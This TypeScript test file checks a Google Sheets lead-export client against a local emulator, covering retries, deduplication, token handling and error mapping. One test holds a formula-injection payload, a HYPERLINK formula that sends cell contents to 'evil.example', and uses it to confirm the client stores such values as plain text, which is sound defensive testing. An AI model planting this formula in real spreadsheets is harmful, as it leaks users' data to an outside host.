import assert from "node:assert/strict";
import { importPKCS8, SignJWT } from "jose";
import { test } from "../_helpers.ts";
import {
  createSheetsClient,
  type ServiceAccountKey,
  SheetsApiError,
} from "../../functions/_shared/integrations/sheets.ts";
import { quotaExceeded, serverError, startGoogleEmulator } from "../emulators/google.ts";

const SHEET_ID = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
const COLUMNS = [
  { header: "Name", field: "full_name" },
  { header: "Phone", field: "phone" },
  { header: "Budget", field: "custom.budget" },
];

/** An emulator with one shared spreadsheet and a client whose retries do not really sleep. */
async function setup(options: { shared?: boolean; sheet?: string; maxMs?: number; timeoutMs?: number } = {}) {
  const google = startGoogleEmulator();
  const key = await google.addServiceAccount();
  const sheet = options.sheet ?? "Leads";
  google.addSpreadsheet(SHEET_ID, {
    title: "Acme leads",
    sheets: [sheet, "Archive"],
    sharedWith: options.shared === false ? [] : [key.client_email],
  });
  const sleeps: number[] = [];
  const client = createSheetsClient({
    sheetsUrl: google.sheetsUrl,
    tokenUrl: google.tokenUrl,
    sleep: (ms) => {
      sleeps.push(ms);
      return Promise.resolve();
    },
    retry: { attempts: 4, baseMs: 10, maxMs: options.maxMs ?? 100 },
    timeoutMs: options.timeoutMs,
  });
  return { google, key, client, sheet, sleeps, [Symbol.asyncDispose]: () => google.stop() };
}

/** Signs a service-account assertion the way Google documents it, with any claim overridden. */
async function signAssertion(
  key: ServiceAccountKey,
  tokenUrl: string,
  claims: { iat?: number; exp?: number; aud?: string; scope?: string } = {},
  privateKey = key.private_key,
): Promise<string> {
  const now = Math.floor(Date.now() / 1000);
  return await new SignJWT({ scope: claims.scope ?? "https://www.googleapis.com/auth/spreadsheets" })
    .setProtectedHeader({ alg: "RS256", kid: key.private_key_id })
    .setIssuer(key.client_email)
    .setAudience(claims.aud ?? tokenUrl)
    .setIssuedAt(claims.iat ?? now)
    .setExpirationTime(claims.exp ?? now + 3600)
    .sign(await importPKCS8(privateKey, "RS256"));
}

async function postAssertion(
  tokenUrl: string,
  assertion: string,
  grantType = "urn:ietf:params:oauth:grant-type:jwt-bearer",
) {
  const response = await fetch(tokenUrl, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams({ grant_type: grantType, assertion }),
  });
  return { status: response.status, body: await response.json() };
}

function lead(id: string, extra: Record<string, unknown> = {}) {
  return { id, full_name: `Lead ${id}`, phone: "+15550100", custom: { budget: 1200 }, ...extra };
}

test("appendLeads() writes the header row into an empty sheet once, then only data rows", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  const first = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1"), lead("l-2")],
  });
  assert.deepEqual(first, { appended: 2, skipped: 0, updatedRange: "Leads!A1:D3" });
  const second = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-3")],
  });
  assert.equal(second.updatedRange, "Leads!A4:D4", "the second batch goes below the first");
  assert.deepEqual(google.rows(SHEET_ID, sheet), [
    ["Name", "Phone", "Budget", "Lead ID"],
    ["Lead l-1", "+15550100", "1200", "l-1"],
    ["Lead l-2", "+15550100", "1200", "l-2"],
    ["Lead l-3", "+15550100", "1200", "l-3"],
  ]);
  assert.equal(
    google.requests.filter((r) => r.kind === "values.append").length,
    2,
    "one append call per batch",
  );
});

test("appendLeads() sends RAW so a formula-looking value is stored as text", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  const formula = '=HYPERLINK("https://evil.example/?c="&A1,"click")';
  await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1", { full_name: formula })],
  });
  const append = google.requests.find((r) => r.kind === "values.append")!;
  assert.equal(append.valueInputOption, "RAW");
  assert.equal(append.query.insertDataOption, "INSERT_ROWS");
  assert.equal(append.range, "'Leads'!A1");
  const cell = google.cells(SHEET_ID, sheet)[1][0];
  assert.deepEqual(cell, { value: formula }, "stored as a string, not a formula");
});

test("appendLeads() quotes sheet names that contain a single quote", async () => {
  await using ctx = await setup({ sheet: "Bob's leads" });
  const { google, key, client, sheet } = ctx;
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] });
  assert.equal(google.requests.find((r) => r.kind === "values.append")!.range, "'Bob''s leads'!A1");
  assert.equal(google.rows(SHEET_ID, sheet).length, 2);
});

test("appendLeads() retries 429 with backoff and appends exactly one row", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet, sleeps } = ctx;
  google.failNext("values.append", quotaExceeded(), 2);
  const result = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1")],
  });
  assert.equal(result.appended, 1);
  const appends = google.requests.filter((r) => r.kind === "values.append");
  assert.deepEqual(appends.map((r) => r.status), [429, 429, 200], "three append attempts");
  assert.equal(google.rows(SHEET_ID, sheet).length, 2, "header and one lead");
  assert.equal(sleeps.length, 2);
  assert.ok(
    sleeps[0] >= 5 && sleeps[0] <= 10 && sleeps[1] >= 10 && sleeps[1] <= 20,
    `backoff grows: ${sleeps}`,
  );
});

test("appendLeads() waits for Retry-After when Google sends one", async () => {
  await using ctx = await setup({ maxMs: 5_000 });
  const { google, key, client, sheet, sleeps } = ctx;
  google.failNext("values.append", quotaExceeded(2));
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] });
  assert.deepEqual(sleeps, [2_000]);
});

test("appendLeads() leaves a Retry-After longer than maxMs to the caller", async () => {
  await using ctx = await setup({ maxMs: 1_000 });
  const { google, key, client, sheet, sleeps } = ctx;
  google.failNext("values.append", quotaExceeded(60));
  const error = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1")],
  })
    .catch((e) => e);
  assert.ok(error instanceof SheetsApiError);
  assert.equal(error.reason, "RESOURCE_EXHAUSTED");
  assert.equal(error.retryAfterMs, 60_000, "the job queue can reschedule with it");
  assert.deepEqual(sleeps, [], "no in-process wait of a minute");
});

test("appendLeads() gives up after retry.attempts with a retryable error", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  google.failNext("values.append", serverError(500), 10);
  await assert.rejects(
    client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] }),
    (e) => e instanceof SheetsApiError && e.status === 500 && e.reason === "INTERNAL" && e.retryable,
  );
  assert.equal(google.requests.filter((r) => r.kind === "values.append").length, 4);
  assert.equal(google.rows(SHEET_ID, sheet).length, 0);
});

for (
  const [label, fault] of [["a 503", serverError(503, true)], ["a dropped connection", {
    network: true,
    afterApply: true,
  }]] as const
) {
  test(`appendLeads() retried after ${label} on an applied append still leaves one row`, async () => {
    await using ctx = await setup();
    const { google, key, client, sheet } = ctx;
    google.failNext("values.append", fault);
    const result = await client.appendLeads({
      key,
      spreadsheetId: SHEET_ID,
      sheet,
      columns: COLUMNS,
      rows: [lead("l-1"), lead("l-2")],
    });
    assert.deepEqual(result, { appended: 2, skipped: 0 }, "the lost append is recognised as ours");
    assert.equal(google.requests.filter((r) => r.kind === "values.append").length, 1, "nothing sent twice");
    assert.deepEqual(google.rows(SHEET_ID, sheet).map((row) => row[3]), ["Lead ID", "l-1", "l-2"]);
  });
}

test("appendLeads() retries a read that timed out", async () => {
  await using ctx = await setup({ timeoutMs: 100 });
  const { google, key, client, sheet } = ctx;
  google.delay("values.get", 400, 1);
  const result = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1")],
  });
  assert.equal(result.appended, 1);
  assert.equal(
    google.requests.filter((r) => r.kind === "values.get").length,
    2,
    "the slow read was repeated",
  );
  assert.equal(google.rows(SHEET_ID, sheet).length, 2);
});

test("appendLeads() skips leads already in the sheet and repeated in the batch", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] });
  const result = await client.appendLeads({
    key,
    spreadsheetId: SHEET_ID,
    sheet,
    columns: COLUMNS,
    rows: [lead("l-1"), lead("l-2"), lead("l-2")],
  });
  assert.equal(result.appended, 1);
  assert.equal(result.skipped, 2);
  assert.deepEqual(google.rows(SHEET_ID, sheet).map((row) => row[3]), ["Lead ID", "l-1", "l-2"]);
});

test("appendLeads() places values under the sheet's own header order", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  google.setRows(SHEET_ID, sheet, [["Lead ID", "Notes", "Phone", "Name", "Budget"]]);
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-9")] });
  assert.deepEqual(google.rows(SHEET_ID, sheet)[1], ["l-9", "", "+15550100", "Lead l-9", "1200"]);
});

test("appendLeads() refuses a sheet whose header lacks a configured column", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  google.setRows(SHEET_ID, sheet, [["Name", "Phone", "Budget"]]);
  await assert.rejects(
    client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] }),
    (e) =>
      e instanceof SheetsApiError && e.reason === "HEADER_MISMATCH" && !e.retryable &&
      /"Lead ID"/.test(e.message),
  );
  assert.equal(google.requests.filter((r) => r.kind === "values.append").length, 0);
});

test("appendLeads() fails fast with PERMISSION_DENIED when the sheet is not shared", async () => {
  await using ctx = await setup({ shared: false });
  const { google, key, client, sheet, sleeps } = ctx;
  await assert.rejects(
    client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] }),
    (e) =>
      e instanceof SheetsApiError && e.status === 403 && e.reason === "PERMISSION_DENIED" && !e.retryable,
  );
  assert.equal(google.requests.filter((r) => r.kind !== "token").length, 1, "not retried");
  assert.deepEqual(sleeps, []);
});

test("appendLeads() reuses one access token for several appends", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  for (const id of ["l-1", "l-2", "l-3"]) {
    await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead(id)] });
  }
  assert.equal(google.requests.filter((r) => r.kind === "token").length, 1);
  assert.equal(google.rows(SHEET_ID, sheet).length, 4);
});

test("appendLeads() gets a new token when Google no longer accepts the cached one", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-1")] });
  google.revokeTokens();
  await client.appendLeads({ key, spreadsheetId: SHEET_ID, sheet, columns: COLUMNS, rows: [lead("l-2")] });
  assert.equal(google.requests.filter((r) => r.kind === "token").length, 2);
  assert.equal(google.rows(SHEET_ID, sheet).length, 3);
});

test("appendLeads() reports a refused assertion as SheetsApiError invalid_grant", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  const other = await google.addServiceAccount();
  const forged: ServiceAccountKey = { ...key, private_key: other.private_key };
  await assert.rejects(
    client.appendLeads({
      key: forged,
      spreadsheetId: SHEET_ID,
      sheet,
      columns: COLUMNS,
      rows: [lead("l-1")],
    }),
    (e) => e instanceof SheetsApiError && e.status === 400 && e.reason === "invalid_grant" && !e.retryable,
  );
  assert.equal(google.requests.filter((r) => r.kind === "token").length, 1, "not retried");
});

test("google emulator token endpoint checks the assertion like Google", async () => {
  await using ctx = await setup();
  const { google, key } = ctx;
  const now = Math.floor(Date.now() / 1000);
  const sign = (claims: Parameters<typeof signAssertion>[2], privateKey?: string) =>
    signAssertion(key, google.tokenUrl, claims, privateKey);
  const exchange = (assertion: string, grantType?: string) =>
    postAssertion(google.tokenUrl, assertion, grantType);

  const ok = await exchange(await sign({}));
  assert.equal(ok.status, 200);
  assert.equal(ok.body.expires_in, 3599);
  assert.equal(ok.body.token_type, "Bearer");

  const other = await google.addServiceAccount();
  const refusals: [string, Promise<string>, string, RegExp][] = [
    ["forged signature", sign({}, other.private_key), "invalid_grant", /Invalid JWT Signature/],
    ["expired", sign({ iat: now - 7200, exp: now - 3600 }), "invalid_grant", /short-lived token/],
    ["lifetime over an hour", sign({ iat: now, exp: now + 3601 }), "invalid_grant", /short-lived token/],
    ["issued in the future", sign({ iat: now + 600, exp: now + 1200 }), "invalid_grant", /short-lived token/],
    ["another audience", sign({ aud: "https://oauth2.googleapis.com/token" }), "invalid_grant", /audience/],
    ["no scope", sign({ scope: "" }), "invalid_scope", /scope/],
  ];
  for (const [label, assertion, error, description] of refusals) {
    const refused = await exchange(await assertion);
    assert.equal(refused.status, 400, label);
    assert.equal(refused.body.error, error, label);
    assert.match(refused.body.error_description, description, label);
  }
  const wrongGrant = await exchange(await sign({}), "client_credentials");
  assert.equal(wrongGrant.body.error, "unsupported_grant_type");
});

test("google emulator Sheets endpoints refuse what Google refuses", async () => {
  await using ctx = await setup();
  const { google, key } = ctx;
  const { body: { access_token: token } } = await postAssertion(
    google.tokenUrl,
    await signAssertion(key, google.tokenUrl),
  );
  const call = async (path: string, init: RequestInit = {}, bearer: string | null = token) => {
    const headers = new Headers(init.headers);
    if (bearer) headers.set("authorization", `Bearer ${bearer}`);
    const response = await fetch(`${google.sheetsUrl}/v4/spreadsheets/${path}`, { ...init, headers });
    return { status: response.status, body: await response.json() };
  };
  const append = (range: string, query: string, body: unknown) =>
    call(`${SHEET_ID}/values/${encodeURIComponent(range)}:append?${query}`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(body),
    });

  const anonymous = await call(`${SHEET_ID}/values/Leads!A1`, {}, null);
  assert.deepEqual([anonymous.status, anonymous.body.error.status], [401, "UNAUTHENTICATED"]);
  const badToken = await call(`${SHEET_ID}/values/Leads!A1`, {}, "ya29.made-up");
  assert.deepEqual([badToken.status, badToken.body.error.status], [401, "UNAUTHENTICATED"]);
  const missing = await call("no-such-spreadsheet/values/Leads!A1");
  assert.deepEqual([missing.status, missing.body.error.status], [404, "NOT_FOUND"]);
  const unknownSheet = await call(`${SHEET_ID}/values/${encodeURIComponent("'Nope'!A1")}`);
  assert.equal(unknownSheet.status, 400);
  assert.equal(unknownSheet.body.error.message, "Unable to parse range: 'Nope'!A1");
  const noOption = await append("Leads!A1", "", { values: [["x"]] });
  assert.deepEqual([noOption.status, noOption.body.error.status], [400, "INVALID_ARGUMENT"]);
  assert.match(noOption.body.error.message, /valueInputOption/);
  const badOption = await append("Leads!A1", "valueInputOption=PARSED", { values: [["x"]] });
  assert.equal(badOption.status, 400);
  const flat = await append("Leads!A1", "valueInputOption=RAW", { values: ["x"] });
  assert.equal(flat.status, 400, "values must be a list of lists");
  const empty = await call(`${SHEET_ID}/values/Leads!A1:B2`);
  assert.deepEqual(empty.body, { range: "Leads!A1:B2", majorDimension: "ROWS" }, "no values key when empty");

  const typed = await append("Leads!A1", "valueInputOption=USER_ENTERED", {
    values: [['=HYPERLINK("https://x.example","x")', "42"]],
  });
  assert.equal(typed.status, 200);
  assert.equal(typed.body.updates.updatedRange, "Leads!A1:B1");
  assert.equal(typed.body.tableRange, undefined, "no table before the first append");
  assert.deepEqual(google.cells(SHEET_ID, "Leads")[0], [
    { value: "x", formula: '=HYPERLINK("https://x.example","x")' },
    { value: 42 },
  ], "USER_ENTERED parses formulas and numbers");
  const next = await append("Leads!A1", "valueInputOption=RAW", { values: [["a", "b", "c"]] });
  assert.equal(next.body.tableRange, "Leads!A1:B1");
  assert.deepEqual(next.body.updates, {
    spreadsheetId: SHEET_ID,
    updatedRange: "Leads!A2:C2",
    updatedRows: 1,
    updatedColumns: 3,
    updatedCells: 3,
  });
});

test("readRows() returns non-empty rows keyed by header with their sheet row numbers", async () => {
  await using ctx = await setup();
  const { google, key, client, sheet } = ctx;
  google.setRows(SHEET_ID, sheet, [
    ["Name", "Phone", "", "Email", "constructor", "__proto__", "Name"],
    ["Ann", "+15550101", "", "ann@example.com", "c", "p", "second Name column"],
    [],
    ["Bob", "", "ignored", "bob@example.com"],
    ["Cy"],
  ]);
  const all = await client.readRows({ key, spreadsheetId: SHEET_ID, sheet });
  assert.deepEqual(all.header, ["Name", "Phone", "", "Email", "constructor", "__proto__", "Name"]);
  // Plain objects to compare: the values have no prototype, so "constructor" and "__proto__" are own keys.
  const blank = { constructor: "", ["__proto__"]: "" };
  assert.deepEqual(all.rows.map(({ rowNumber, values }) => ({ rowNumber, values: { ...values } })), [
    {
      rowNumber: 2,
      values: {
        Name: "Ann",
        Phone: "+15550101",
        Email: "ann@example.com",
        constructor: "c",
        ["__proto__"]: "p",
      },
    },
    { rowNumber: 4, values: { Name: "Bob", Phone: "", Email: "bob@example.com", ...blank } },
    { rowNumber: 5, values: { Name: "Cy", Phone: "", Email: "", ...blank } },
  ]);
  const get = google.requests.filter((r) => r.kind === "values.get").at(-1)!;
  assert.equal(get.query.majorDimension, "ROWS");

  const later = await client.readRows({ key, spreadsheetId: SHEET_ID, sheet, fromRow: 4, limit: 1 });
  assert.deepEqual(later.rows.map((r) => r.rowNumber), [4]);
  const pastEnd = await client.readRows({ key, spreadsheetId: SHEET_ID, sheet, fromRow: 1001 });
  assert.deepEqual(pastEnd.rows, [], "reading below the grid is an empty batch, not an error");
  const emptySheet = await client.readRows({ key, spreadsheetId: SHEET_ID, sheet: "Archive" });
  assert.deepEqual(emptySheet, { header: [], rows: [] });
});

test("testConnection() returns the spreadsheet title, or NOT_FOUND", async () => {
  await using ctx = await setup();
  const { google, key, client } = ctx;
  assert.equal(await client.testConnection({ key, spreadsheetId: SHEET_ID }), "Acme leads");
  assert.equal(google.requests.find((r) => r.kind === "spreadsheets.get")!.query.fields, "properties.title");
  await assert.rejects(
    client.testConnection({ key, spreadsheetId: "missing" }),
    (e) => e instanceof SheetsApiError && e.status === 404 && e.reason === "NOT_FOUND",
  );
});
